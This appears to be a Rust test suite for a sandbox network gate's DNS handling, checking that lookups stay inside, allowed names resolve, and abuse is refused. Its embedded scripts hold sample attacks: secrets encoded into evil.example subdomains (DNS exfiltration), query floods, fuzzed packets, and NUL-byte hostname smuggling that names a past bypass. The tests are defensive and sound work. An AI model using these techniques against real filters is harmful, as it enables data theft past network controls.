//! How names are answered inside, and how they are resolved outside.

use serde_json::json;

use crate::{egress::testbed::Testbed, egress::testbed::denials, egress::testbed::syn, support::runner::test};

test!(Both, no_question_of_the_sandbox_leaves_it, seconds 90);
fn no_question_of_the_sandbox_leaves_it() {
    let mut testbed = Testbed::new();
    testbed.zone(json!({"api.internal": {"a": [["10.0.5.7"]]}}));
    let script = "def ask(server, name, kind):
    s = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect((server, 53))
    s.send(question(name, kind))
    answer = s.recv(2000)
    return answer[3] & 15, struct.unpack_from('!H', answer, 6)[0]
secret = 'c2VjcmV0' * 7 + '.x.evil.example'
for server in ('198.19.255.253', '8.8.8.8', '10.0.5.7', '127.0.0.53', '2001:4860:4860::8888', '::1'):
    say([ask(server, secret, kind) for kind in (1, 16, 10, 255)], ask(server, 'api.internal', 1), ask(server, 'api.internal', 28), ask(server, 'api.internal', 65))";
    let ran = testbed.run(&["api.internal:443"], script);
    assert_eq!(ran.output, "[(3, 0), (3, 0), (3, 0), (3, 0)] (0, 1) (0, 0) (0, 0)\n".repeat(6), "{ran:?}");
    assert_eq!(testbed.packets(), []);
    assert_eq!((&ran.egress["denied"][0]["count"], &ran.egress["denied"][0]["reason"]), (&json!(24), &json!("no_rule")), "{ran:?}");
}

test!(Both, questions_over_tcp_are_answered_like_datagrams, seconds 90);
fn questions_over_tcp_are_answered_like_datagrams() {
    let mut testbed = Testbed::new();
    let script = "s = dial('9.9.9.9', 53)
for name in ('api.internal', 'evil.example'):
    asked = question(name)
    framed = struct.pack('!H', len(asked)) + asked
    for part in (framed[:1], framed[1:7], framed[7:]): s.sendall(part); time.sleep(.01)
    answer = s.recv(2000)
    say(answer[5] & 15, struct.unpack_from('!H', answer, 8)[0])
both = b''.join(struct.pack('!H', len(question(name))) + question(name) for name in ('api.internal', 'b.example'))
s.sendall(both); time.sleep(.1); say(len(s.recv(2000)) > 60)
s.shutdown(socket.SHUT_WR); say(s.recv(10))
s = dial('10.0.5.7', 53); s.sendall(b'\\xff\\xff' + b'x' * 3000); time.sleep(.1)
try: say(s.recv(10))
except OSError as error: say(word(error))
say(attempt('9.9.9.9', 853), attempt('9.9.9.9', 443))";
    let ran = testbed.run(&["api.internal:443", "10.0.5.7:1-52,54-65535"], script);
    assert_eq!(ran.output, "0 1\n3 0\nTrue\nb''\nECONNRESET\nECONNREFUSED ECONNREFUSED\n", "{ran:?}");
    assert_eq!(testbed.packets(), []);
}

test!(Both, questions_cost_the_gate_no_more_than_its_budget, seconds 90);
/// Answers cost the host's CPU: a thousand a second over TCP, and about as many as datagrams,
/// to the sandbox's own addresses too. The control: a few are all answered.
fn questions_cost_the_gate_no_more_than_its_budget() {
    let mut testbed = Testbed::new();
    let script = "one = question('api.internal')
framed = struct.pack('!H', len(one)) + one
def stream(count):
    s = dial('9.9.9.9', 53); s.settimeout(5)
    got = b''
    try:
        s.sendall(framed * count); s.shutdown(socket.SHUT_WR)
        while True:
            more = s.recv(65536)
            if not more: break
            got += more
    except OSError: pass
    answers = 0
    while len(got) >= 2:
        length = struct.unpack_from('!H', got)[0]
        if len(got) < length + 2: break
        answers += 1; got = got[length + 2:]
    return answers
def datagrams(count):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', 53)); s.setblocking(False)
    answers = 0
    end = time.time() + 1
    while time.time() < end:
        for act in (lambda: s.send(one), lambda: s.recv(2000)):
            try:
                if count and isinstance(act(), bytes): answers += 1
            except OSError: pass
    return answers
say(stream(20) == 20)
time.sleep(1.1)
say(stream(20000) <= 2000)
answered = datagrams(True)
say(20 < answered <= 4500)";
    let ran = testbed.run(&["api.internal:443"], script);
    assert_eq!(ran.output, "True\nTrue\nTrue\n", "{ran:?}");
    assert_eq!(testbed.packets(), []);
}

test!(Both, an_address_that_stands_for_a_name_leads_nowhere_else, seconds 90);
fn an_address_that_stands_for_a_name_leads_nowhere_else() {
    let mut testbed = Testbed::new();
    testbed.listen("echo", &[443]);
    let script = "say(attempt('198.18.0.9', 443), attempt('198.19.255.253', 443))";
    let ran = testbed.run(&["api.internal:443"], script);
    assert_eq!(ran.output, "ECONNREFUSED ECONNREFUSED\n");
    assert_eq!(denials(&ran), ["connect 198.18.0.9 443 unknown_address", "connect 198.19.255.253 443 unknown_address"]);
    assert_eq!(testbed.packets(), []);
}

test!(Both, the_hosts_own_files_and_servers_are_asked, seconds 90);
fn the_hosts_own_files_and_servers_are_asked() {
    let mut testbed = Testbed::new();
    testbed.listen("echo", &[443]);
    testbed.zone(json!({"slow.internal": {"a": [["203.0.113.8"]], "delay": 1.2}, "only6.internal": {"aaaa": [["2001:db8:9::9"]]}}));
    let script = "say(attempt('hosts.internal', 443), attempt('slow.internal', 443, 10), attempt('only6.internal', 443))";
    let ran = testbed
        .run(&["hosts.internal:443", "slow.internal:443", "only6.internal:443", "203.0.113.0/24:443", "[2001:db8:9::/64]:443"], script);
    assert_eq!(ran.output, "connected connected connected\n", "{ran:?}");
    // The SYN was repeated while the name was looked up; the peer was dialled once.
    assert_eq!(testbed.packets_but_dns(), [syn("203.0.113.9", 443), syn("203.0.113.8", 443), syn("2001:db8:9::9", 443)]);
}

/// Connects to a name as often as told, all at once, and says how many were connected.
const AT_ONCE: &str = "import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (2048, 2048))
def at_once(name, count):
    to, held = (socket.gethostbyname(name), 443), []
    for _ in range(count):
        s = socket.socket(); s.setblocking(False); s.connect_ex(to); held.append(s)
    end = time.time() + 8
    while time.time() < end:
        _, done, _ = select.select([], held, [], .1)
        if len(done) == count: break
    return [s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) for s in done].count(0)
";

test!(Both, connections_to_one_name_share_a_look_up, seconds 90);
fn connections_to_one_name_share_a_look_up() {
    let mut testbed = Testbed::new();
    testbed.listen("echo", &[443]);
    testbed.zone(json!({"api.internal": {"a": [["10.0.5.7"]], "delay": 0.3}}));
    let script = format!("{AT_ONCE}say(at_once('api.internal', 400)); time.sleep(PAUSE); say(at_once('api.internal', 9))");
    let mut questions = |pause: &str| {
        testbed.clear();
        let ran = testbed.run(&["api.internal:443"], &script.replace("PAUSE", pause));
        assert_eq!(ran.output, "400\n9\n", "{ran:?}");
        testbed.packets().iter().filter(|packet| **packet == (17, String::from("10.0.5.7"), 53)).count()
    };
    assert_eq!(questions("0"), 2, "one of each family");
    assert_eq!(questions("2.5"), 4, "the control: an answer serves for two seconds");
}

test!(Both, addresses_of_one_family_do_not_wait_for_the_other, seconds 90);
fn addresses_of_one_family_do_not_wait_for_the_other() {
    let mut testbed = Testbed::new();
    testbed.listen("echo", &[443]);
    testbed.zone(json!({
        "half.internal": {"a": [["203.0.113.8"]], "aaaa": [["2001:db8:9::8"]], "delay_aaaa": 1.5},
        // The host has no way to its first address.
        "late.internal": {"a": [["203.0.113.88"]], "aaaa": [["2001:db8:9::9"]], "delay_aaaa": 1},
        "none.internal": {"a": [["203.0.113.88"]], "delay_aaaa": 1},
    }));
    let script = "def timed(name):
    begin = time.time(); return attempt(name, 443), time.time() - begin
said, took = timed('half.internal'); say(said, took < 1); time.sleep(2)
said, took = timed('late.internal'); say(said, took > .8)
said, took = timed('none.internal'); say(said, took > .8)";
    let rules = ["half.internal:443", "late.internal:443", "none.internal:443", "203.0.113.0/24:443", "[2001:db8:9::/64]:443"];
    let ran = testbed.run(&rules, script);
    assert_eq!(ran.output, "connected True\nconnected True\nEHOSTUNREACH True\n", "{ran:?}");
    // A busy host sends the same one again.
    let mut packets = testbed.packets_but_dns();
    packets.dedup();
    assert_eq!(packets, [syn("203.0.113.8", 443), syn("2001:db8:9::9", 443)]);
}

test!(Both, a_name_server_that_is_silent_is_asked_last, seconds 90);
fn a_name_server_that_is_silent_is_asked_last() {
    let mut testbed = Testbed::new();
    testbed.listen("echo", &[443]);
    std::fs::write(testbed.directory().join("servers"), "nameserver 203.0.113.66\nnameserver 10.0.5.7\noptions timeout:2\n").unwrap();
    let here = json!({"a": [["10.0.5.7"]]});
    testbed.zone(json!({"a.internal": here, "b.internal": here}));
    let script = "for name in ('a.internal', 'b.internal'):
    begin = time.time(); say(attempt(name, 443, 9), time.time() - begin > 1.5)";
    let ran = testbed.run(&["a.internal:443", "b.internal:443"], script);
    assert_eq!(ran.output, "connected True\nconnected False\n", "{ran:?}");
}

test!(Both, an_answer_that_is_cut_is_asked_for_over_tcp, seconds 90);
fn an_answer_that_is_cut_is_asked_for_over_tcp() {
    let mut testbed = Testbed::new();
    testbed.listen("echo", &[443]);
    testbed.zone(json!({"long.internal": {"a": [["203.0.113.8"]], "cut": true}}));
    assert_eq!(testbed.run(&["long.internal:443"], "say(attempt('long.internal', 443))").output, "connected\n");
    assert!(testbed.packets().contains(&syn("10.0.5.7", 53)), "{:?}", testbed.packets());
}

test!(Both, a_name_that_does_not_exist_is_a_failure_and_no_denial, seconds 90);
fn a_name_that_does_not_exist_is_a_failure_and_no_denial() {
    let mut testbed = Testbed::new();
    let ran = testbed.run(&["gone.internal:443"], "say(attempt('gone.internal', 443))");
    assert_eq!(ran.output, "EHOSTUNREACH\n");
    assert_eq!((&ran.egress["failed"][0]["error"], &ran.egress["denied"]), (&json!("ENOTFOUND"), &json!([])));
}

test!(Both, a_service_of_an_allowed_name_is_no_denial, seconds 90);
fn a_service_of_an_allowed_name_is_no_denial() {
    let mut testbed = Testbed::new();
    let script = "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(('8.8.8.8', 53))
for name in ('_db._tcp.api.internal', '_db._tcp.evil.example'): s.send(question(name, 33)); say(s.recv(999)[3] & 15)";
    let ran = testbed.run(&["api.internal:443"], script);
    assert_eq!(ran.output, "3\n3\n", "{ran:?}");
    assert_eq!(denials(&ran), ["dns _db._tcp.evil.example no_rule"], "{ran:?}");
    assert_eq!((&ran.egress["denied"][0]["qtype"], &ran.egress["denied"][0]["allow"]), (&json!("SRV"), &json!(null)), "{ran:?}");
    assert_eq!(testbed.packets(), []);
}

test!(Both, a_flood_of_names_is_refused_and_does_not_leave, seconds 90);
fn a_flood_of_names_is_refused_and_does_not_leave() {
    let mut testbed = Testbed::new();
    testbed.listen("echo", &[443]);
    testbed.zone(json!({"api.hosted.example": {"a": [["203.0.113.5"]]}}));
    let script = "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(('8.8.8.8', 53)); found = refused = 0
for number in range(10000):
    try: s.send(question('n%d.hosted.example' % number)); answer = s.recv(999); found += answer[7]
    except ConnectionRefusedError: refused += 1
say(found, refused > 0); time.sleep(1)
say(attempt('api.hosted.example', 443))
time.sleep(.2)";
    let ran = testbed.run(&["*.hosted.example:443"], script);
    // Thirty a minute, and none for the last one any more.
    assert_eq!(ran.output, "30 True\nEAI_-2\n", "{ran:?}");
    assert_eq!(testbed.packets(), []);
    assert!(ran.egress["truncated"].as_bool().unwrap());
    assert_eq!(testbed.run(&["api.hosted.example:443"], "say(attempt('api.hosted.example', 443))").output, "connected\n");
}

test!(Both, malformed_dns_does_no_harm, seconds 90);
fn malformed_dns_does_no_harm() {
    let mut testbed = Testbed::new();
    testbed.zone(json!({"api.internal": {"a": [["10.0.5.7"]]}}));
    testbed.listen("echo", &[443]);
    let script = "import random
random.seed(7)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('8.8.8.8', 53)); good = question('api.internal')
for _ in range(3000):
    bad = bytearray(good + os.urandom(random.randrange(40)))
    for _ in range(random.randrange(6)): bad[random.randrange(len(bad))] = random.randrange(256)
    try: s.send(bytes(bad[:random.randrange(len(bad) + 1)]))
    except OSError: pass
for last in (b'', b'x' * 60000):
    try: s.send(last)
    except OSError: pass
time.sleep(2)
say(attempt('api.internal', 443))";
    assert_eq!(testbed.run(&["api.internal:443"], script).output, "connected\n");
    assert_eq!(testbed.packets_but_dns(), [syn("10.0.5.7", 443)]);
}

test!(Both, a_name_with_a_nul_byte_is_no_other_name, seconds 90);
/// srt's way out by the host `evil.example\0.api.internal`: what judged it went by its end, and
/// what looked it up stopped at the NUL. Here a name is a value that cannot hold one, the one
/// that is judged is the one that is looked up, and the address that came of it is what is
/// dialled.
fn a_name_with_a_nul_byte_is_no_other_name() {
    let mut testbed = Testbed::new();
    testbed.listen("mute", &[8443]);
    testbed.zone(json!({"www.api.internal": {"a": [["203.0.113.5"]]}, "evil.example": {"a": [["203.0.113.66"]]}}));
    let script = "def ask(*labels):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(('9.9.9.9', 53))
    s.send(struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l for l in labels) + struct.pack('!BHH', 0, 1, 1))
    answer = s.recv(2000)
    return answer[3] & 15 > 0, struct.unpack_from('!H', answer, 6)[0]
for labels in ((b'evil.example\\0', b'api', b'internal'), (b'evil', b'example\\0', b'api', b'internal'), (b'evil', b'example', b'\\0', b'api', b'internal'), (b'www\\0', b'api', b'internal')):
    say(*ask(*labels))
say(*ask(b'www', b'api', b'internal'))
def tell(data):
    s = dial('www.api.internal', 8443); s.sendall(data); s.settimeout(.3)
    try: return s.recv(10) or 'end'
    except OSError as error: return word(error)
inner = b'evil.example\\0.api.internal'
say(tell(b'GET / HTTP/1.1\\r\\nHost: ' + inner + b':8443\\r\\n\\r\\n'))
say(tell(hello('evil-example-.api.internal').replace(b'evil-example-', b'evil.example\\0')))
say(tell(b'GET / HTTP/1.1\\r\\nHost: www.api.internal:8443\\r\\n\\r\\n'))";
    let ran = testbed.run(&["*.api.internal:8443"], script);
    assert_eq!(ran.output, format!("{}False 1\nECONNRESET\nECONNRESET\nhang\n", "True 0\n".repeat(4)), "{ran:?}");
    // The control is what the peer heard: the one that names it, and of the others nothing.
    let heard = testbed.heard(8443);
    assert!(
        heard.iter().filter(|heard| heard.contains("evil")).count() == 0 && heard.iter().any(|heard| heard.contains("www")),
        "{heard:?}"
    );
    assert!(testbed.packets_but_dns().iter().all(|packet| *packet == syn("203.0.113.5", 8443)), "{:?}", testbed.packets());
}
